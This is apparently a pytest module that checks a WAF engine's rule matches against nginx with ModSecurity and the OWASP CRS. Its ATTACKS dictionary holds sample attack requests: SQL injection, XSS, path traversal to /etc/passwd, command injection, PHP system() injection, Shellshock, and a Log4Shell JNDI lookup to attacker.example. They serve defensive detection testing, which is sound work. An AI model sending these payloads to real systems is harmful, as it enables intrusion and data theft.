"""originlock's managed engine against the WAF peer: nginx with ModSecurity v3 loading the same CRS files.

Each request is sent over TCP to nginx + libmodsecurity3 (DetectionOnly, JSON audit log: the rule ids that
matched) and evaluated by originlock's engine on the same bytes with the same settings (paranoia level,
threshold, argument limits). Two checks:

- well-known attacks and the benign corpus of ``test_benign`` at paranoia level 1: the same rule ids match
  in both engines, and both block exactly the attacks;
- a deterministic sample of the CRS regression cases (every 5th request-phase case) at paranoia level 4:
  the two engines agree on the rule ids each case judges. The disagreements measured on the whole corpus
  (docs/waf.md, "The peer: nginx + ModSecurity v3") are 0.65 % of the cases, in two classes that are known
  differences of nginx or of ModSecurity 3.0.9 (Debian 12), where the CRS's own expectations side with
  originlock: ModSecurity 3.0.9 inspects XML element names as ``XML:/*`` text, and nginx rewrites an
  absolute-form request-target to its path. A disagreement outside those classes fails the test, and so
  does a rate above 2 %.
"""

from __future__ import annotations

import shutil
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from originlock.testing.crs_ftw import Case, judge, load_cases
from originlock.testing.crs_runner import send_all
from originlock.testing.modsecurity import ModSecurityNginx, audit_rule_ids, module_available
from originlock.testing.require import require_or_skip
from originlock.waf.managed import EngineConfig, HttpRequest, load_engine
from originlock.waf.managed.config import DEFAULT_TX, REGRESSION_TX

from .test_benign import CORPUS, POLICY

CRS_TESTS = Path(__file__).resolve().parents[3].parent / "shared/data/coreruleset-4.28.0/tests/regression/tests"
SAMPLE = 5
MAX_DISAGREEMENT = 0.02
PL1 = EngineConfig(paranoia_level=1, threshold=5, tx=DEFAULT_TX)
PL4_LOG = EngineConfig(paranoia_level=4, threshold=5, actions=((949110, "log"),), tx=REGRESSION_TX)
CASE_HEADER = b"X-Case-Id"

#: Where ModSecurity 3.0.9 behind nginx and the CRS's own tests part ways (docs/waf.md): the rule a case
#: judges, and why the peer differs.
KNOWN = {
    # XML bodies: ModSecurity 3.0.9 matches element names (<java.Runtime>...) that the tests expect unmatched.
    944110: "xml-names",
    944120: "xml-names",
    944210: "xml-names",
    944240: "xml-names",
    944250: "xml-names",
    # `GET http://localhost HTTP/1.1`: nginx hands ModSecurity the path, not the absolute form.
    920100: "absolute-form",
}


def raw_of(request: HttpRequest) -> bytes:
    head = b"%s %s %s\r\n" % (request.method, request.target, request.protocol)
    head += b"".join(b"%s: %s\r\n" % (name, value) for name, value in request.headers)
    return head + b"\r\n" + (request.body or b"")


def _dechunk(data: bytes) -> bytes:
    out = b""
    while data:
        size_line, sep, rest = data.partition(b"\r\n")
        size_text = size_line.split(b";", 1)[0].strip()
        if not sep or not size_text or any(c not in b"0123456789abcdefABCDEF" for c in size_text):
            break
        size = int(size_text, 16)
        if size == 0:
            break
        out += rest[:size]
        data = rest[size + 2 :]
    return out


def parse_raw(raw: bytes) -> HttpRequest:
    """The request as a server hands it to a WAF: line, headers in order, the framed body."""
    head, _, body = raw.partition(b"\r\n\r\n")
    lines = head.split(b"\r\n")
    parts = lines[0].split(b" ")
    method, target, protocol = ([*parts, b"", b""])[:3]
    if len(parts) > 3:
        target, protocol = b" ".join(parts[1:-1]), parts[-1]
    headers: list[tuple[bytes, bytes]] = []
    for line in lines[1:]:
        name, sep, value = line.partition(b":")
        if sep:
            headers.append((name.strip(), value.strip()))
    length = next((v for n, v in headers if n.lower() == b"content-length"), None)
    chunked = any(n.lower() == b"transfer-encoding" and b"chunked" in v.lower() for n, v in headers)
    if chunked:
        body = _dechunk(body)
    elif length is not None and length.isdigit():
        body = body[: int(length)]
    else:
        body = b""
    return HttpRequest(method, target, protocol, tuple(headers), "127.0.0.1", body or None)


def _tag(raw: bytes, index: int) -> bytes:
    line, sep, rest = raw.partition(b"\r\n")
    return line + b"\r\n%s: %d\r\n" % (CASE_HEADER, index) + rest if sep else raw


def _peer_ids(peer: ModSecurityNginx, count: int) -> dict[int, set[int]]:
    wanted = CASE_HEADER.decode().lower()
    out: dict[int, set[int]] = {}
    for record in peer.audit_records():
        headers = {str(k).lower(): str(v) for k, v in (record.get("request", {}).get("headers") or {}).items()}
        index = headers.get(wanted, "")
        if index.isdigit() and int(index) < count:
            out[int(index)] = audit_rule_ids(record)
    return out


def _run(peer: ModSecurityNginx, raws: list[bytes]) -> dict[int, set[int]]:
    cases = [Case(0, i, 0, _tag(raw, i), frozenset(), frozenset(), ()) for i, raw in enumerate(raws)]
    send_all(("127.0.0.1", peer.port), cases, workers=4, timeout=10)
    # The audit record is written in nginx's log phase, after the response: wait until all are there.
    deadline = time.monotonic() + 10
    ids = _peer_ids(peer, len(raws))
    while len(ids) < len(raws) and time.monotonic() < deadline:
        time.sleep(0.2)
        ids = _peer_ids(peer, len(raws))
    return ids


def _start(tmp: Path, config: EngineConfig) -> Iterator[ModSecurityNginx]:
    require_or_skip(shutil.which("nginx") is not None or Path("/usr/sbin/nginx").exists(), "nginx is not installed")
    require_or_skip(module_available(), "libnginx-mod-http-modsecurity is not installed")
    peer = ModSecurityNginx(tmp, config).start()
    try:
        yield peer
    finally:
        peer.stop()


@pytest.fixture(scope="module")
def modsec_pl1(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ModSecurityNginx]:
    yield from _start(tmp_path_factory.mktemp("modsec-pl1"), PL1)


@pytest.fixture(scope="module")
def modsec_pl4(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ModSecurityNginx]:
    yield from _start(tmp_path_factory.mktemp("modsec-pl4"), PL4_LOG)


def _get(target: str, *headers: str) -> bytes:
    extra = "".join(f"{h}\r\n" for h in headers)
    return (
        f"GET {target} HTTP/1.1\r\nHost: shop.example.test\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) "
        f"Firefox/126.0\r\nAccept: text/html\r\n{extra}\r\n"
    ).encode()


def _post(target: str, content_type: str, body: bytes) -> bytes:
    return (
        f"POST {target} HTTP/1.1\r\nHost: shop.example.test\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) "
        f"Firefox/126.0\r\nAccept: */*\r\nContent-Type: {content_type}\r\nContent-Length: {len(body)}\r\n\r\n"
    ).encode() + body


#: Well-known attacks, each blocked by the CRS at PL1 with its threshold of 5.
ATTACKS = {
    "sqli tautology": _get("/item?id=1%27%20OR%20%271%27%3D%271"),
    "sqli union": _get("/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"),
    "sqli in json": _post("/api/login", "application/json", b'{"user": "admin\' OR 1=1 -- ", "pw": "x"}'),
    "xss script": _get("/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
    "xss event handler": _post(
        "/comment", "application/x-www-form-urlencoded", b"text=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"
    ),
    "path traversal": _get("/download?file=../../../../etc/passwd"),
    "rce command": _get("/ping?host=127.0.0.1%3Bcat%20/etc/passwd"),
    "rce substitution": _post("/run", "application/x-www-form-urlencoded", b"cmd=%24%28whoami%29"),
    "php injection": _post(
        "/upload", "application/x-www-form-urlencoded", b"x=%3C%3Fphp+system%28%24_GET%5Bc%5D%29%3B+%3F%3E"
    ),
    "log4shell header": _get("/", "X-Api-Version: ${jndi:ldap://attacker.example/a}"),
    "shellshock": _get("/cgi-bin/status", "Referer: () { :; }; /bin/bash -c 'id'"),
    "scanner user agent": b"GET / HTTP/1.1\r\nHost: shop.example.test\r\nUser-Agent: sqlmap/1.7\r\nAccept: */*\r\n\r\n",
    "java deserialization": _post(
        "/api", "application/x-www-form-urlencoded", b"d=java.lang.Runtime.getRuntime().exec(%22id%22)"
    ),
}


def test_well_known_attacks_and_benign_requests_agree_exactly_at_pl1(modsec_pl1: ModSecurityNginx) -> None:
    benign = {name: raw_of(request) for name, request in CORPUS.items()}
    named = [*ATTACKS.items(), *benign.items()]
    peer = _run(modsec_pl1, [raw for _, raw in named])
    engine = load_engine()
    mismatches = []
    for index, (name, raw) in enumerate(named):
        outcome = engine.evaluate(parse_raw(_tag(raw, index)), PL1)
        ours = {m.rule_id for m in outcome.matches}
        theirs = peer.get(index)
        assert theirs is not None, f"{name}: no ModSecurity audit record"
        expected = 949110 in ours if name in ATTACKS else ours - {949110} == POLICY.get(name, set())
        if ours != theirs or not expected:
            mismatches.append(f"{name}: originlock {sorted(ours)} ModSecurity {sorted(theirs)}")
    assert not mismatches, "\n".join(mismatches)


def test_crs_regression_sample_agrees_with_modsecurity(modsec_pl4: ModSecurityNginx) -> None:
    require_or_skip(CRS_TESTS.is_dir(), f"CRS regression tests not found at {CRS_TESTS}")
    cases = [c for c in load_cases(CRS_TESTS) if c.rule_id < 950000][::SAMPLE]
    peer = _run(modsec_pl4, [c.raw for c in cases])
    engine = load_engine()
    compared = 0
    disagreements: list[str] = []
    unexplained: list[str] = []
    peer_passes = ours_pass = 0
    for index, case in enumerate(cases):
        theirs = peer.get(index)
        if theirs is None:
            continue  # nginx refused the request before ModSecurity (a 400 for a malformed request line)
        compared += 1
        ours = {m.rule_id for m in engine.evaluate(parse_raw(_tag(case.raw, index)), PL4_LOG).matches}
        peer_passes += judge(case, theirs, 200) is None
        ours_pass += judge(case, ours, 200) is None
        judged = case.expect_ids | case.no_expect_ids
        if ours & judged == theirs & judged:
            continue
        line = f"{case.name}: originlock {sorted(ours & judged)} ModSecurity {sorted(theirs & judged)}"
        disagreements.append(line)
        if not all(rule in KNOWN for rule in (ours ^ theirs) & judged):
            unexplained.append(line)
    rate = len(disagreements) / max(1, compared)
    print(
        f"{compared}/{len(cases)} cases reached ModSecurity; disagreement on judged rules {len(disagreements)} "
        f"({100 * rate:.2f} %); CRS expectations met: originlock {ours_pass}, ModSecurity {peer_passes}"
    )
    print("\n".join(disagreements))
    assert compared >= 0.95 * len(cases)
    assert not unexplained, "\n".join(unexplained)
    assert rate <= MAX_DISAGREEMENT
